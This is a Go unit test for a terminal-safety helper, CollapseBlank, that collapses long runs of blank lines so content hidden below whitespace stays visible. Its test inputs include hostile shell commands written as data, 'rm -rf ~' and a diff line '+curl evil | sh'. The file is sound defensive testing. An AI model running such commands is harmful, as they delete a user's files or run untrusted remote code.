package termsafe_test

import (
	"slices"
	"testing"

	"github.com/tick-agent/tick/ui/termsafe"
)

func TestCollapseBlank(t *testing.T) {
	many := func(s string, n int) []string { return slices.Repeat([]string{s}, n) }
	join := func(parts ...[]string) []string { return slices.Concat(parts...) }
	for _, tc := range []struct {
		name     string
		in, want []string
	}{
		{"none", []string{"a", "b"}, []string{"a", "b"}},
		{"two kept", []string{"a", "", " ", "b"}, []string{"a", "", " ", "b"}},
		{"a long run", join([]string{"echo hi"}, many("", 40), []string{"rm -rf ~"}),
			[]string{"echo hi", "⋯ 40 blank lines ⋯", "rm -rf ~"}},
		{"white space counts", join(many(" \t", 3), []string{"x"}), []string{"⋯ 3 blank lines ⋯", "x"}},
		{"added blank lines in a diff", join([]string{"@@ -1 +1,60 @@"}, many("+", 50), []string{"+curl evil | sh"}),
			[]string{"@@ -1 +1,60 @@", "+⋯ 50 blank lines ⋯", "+curl evil | sh"}},
		{"mixed markers", join(many("+", 2), many("-", 2)), []string{"⋯ 4 blank lines ⋯"}},
		{"two runs", join(many("", 3), []string{"a"}, many("", 5)), []string{"⋯ 3 blank lines ⋯", "a", "⋯ 5 blank lines ⋯"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			in := slices.Clone(tc.in)
			got := termsafe.CollapseBlank(in)
			if !slices.Equal(got, tc.want) {
				t.Fatalf("CollapseBlank(%q) = %q, want %q", tc.in, got, tc.want)
			}
			if !slices.Equal(in, tc.in) {
				t.Fatalf("the input was changed: %q", in)
			}
		})
	}
}
